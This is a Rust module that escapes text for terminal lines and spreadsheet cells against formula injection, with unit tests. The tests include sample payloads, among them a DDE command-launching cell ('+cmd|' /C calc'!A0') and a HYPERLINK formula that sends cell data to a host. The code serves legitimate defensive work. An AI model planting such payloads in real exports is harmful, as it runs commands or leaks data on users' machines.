//! Text of a file made safe where it leaves the program: on one line of a terminal, and in a cell of a table that a
//! spreadsheet opens, which runs what looks like a formula.

pub use crate::model::one_line as line;
use std::borrow::Cow;

/// Text for a cell of a spreadsheet: as [`line`], and what a spreadsheet would take for a formula begins with an
/// apostrophe, which makes it text. Numbers stay as they are.
pub fn cell(text: &str) -> Cow<'_, str> {
    if is_guarded(text) || text.starts_with(starts_a_formula) && text.parse::<f64>().is_err() {
        Cow::Owned(format!("'{}", line(text)))
    } else {
        line(text)
    }
}

/// The same of a text in a file, where each of its lines stays one.
pub fn cell_of_lines(text: &str) -> Cow<'_, str> {
    if !text.contains('\n') {
        return cell(text);
    }
    let guard = if is_guarded(text) || text.starts_with(starts_a_formula) { "'" } else { "" };
    Cow::Owned(format!("{guard}{}", lines(text)))
}

/// The same for a cell that says itself that it is text, and needs no guard.
pub fn typed_cell(text: &str) -> Cow<'_, str> {
    if is_guarded(text) { Cow::Owned(format!("'{}", lines(text))) } else { lines(text) }
}

fn lines(text: &str) -> Cow<'_, str> {
    if !text.contains('\n') {
        return line(text);
    }
    let lines: Vec<_> = text.split('\n').map(line).collect();
    Cow::Owned(lines.join("\n"))
}

/// Whether a text begins of its own as one that was guarded: whoever takes the guard off would take its own apostrophe.
fn is_guarded(text: &str) -> bool {
    text.starts_with('\'')
        && text.trim_start_matches('\'').starts_with(|first| first == ' ' || starts_a_formula(first))
}

/// What a spreadsheet takes for the beginning of a formula; tabs and line breaks are skipped on the way to one, and
/// some take the full-width signs too.
fn starts_a_formula(letter: char) -> bool {
    matches!(letter, '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '＝' | '＋' | '－' | '＠')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_looks_like_a_formula_is_text() {
        for formula in
            ["=HYPERLINK(\"http://x/\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "＝1+1", "+x"]
        {
            assert_eq!(cell(formula), format!("'{formula}"));
        }
        assert_eq!(cell("\t=1+1"), "' =1+1");
        assert_eq!(cell("\r=1+1"), "' =1+1");
        for unseen in ["\u{feff}", "\u{200b}", "\u{2060}", "\u{e0041}"] {
            assert_eq!(cell(&format!("{unseen}=1+1")), " =1+1", "{unseen:?}");
        }
    }

    #[test]
    fn lines_stay_apart_in_a_file_and_run_no_sooner() {
        assert_eq!(cell_of_lines("two\nlines\tof it"), "two\nlines of it");
        assert_eq!(cell_of_lines("=1\n+2"), "'=1\n+2");
        assert_eq!(cell_of_lines("\n=1+1"), "'\n=1+1");
        assert_eq!(cell_of_lines("=1"), "'=1");
        assert_eq!(cell_of_lines("'=1\n2"), "''=1\n2");
        assert_eq!(typed_cell("=1\n+2\t3"), "=1\n+2 3");
    }

    #[test]
    fn an_apostrophe_of_its_own_stays_when_the_guard_comes_off() {
        for own in ["'=1", "''-2", "' =1"] {
            assert_eq!(cell(own), format!("'{own}"));
            assert_eq!(typed_cell(own), format!("'{own}"));
        }
        for plain in ["'tis", "'", "''", "it's"] {
            assert_eq!((cell(plain), typed_cell(plain)), (plain.into(), plain.into()));
        }
    }

    #[test]
    fn numbers_and_ordinary_text_stay() {
        for text in ["-0.91", "+44", "-1e5", "12", "a=b", "–", "−0.4", "E92000001"] {
            assert_eq!(cell(text), text);
        }
    }
}
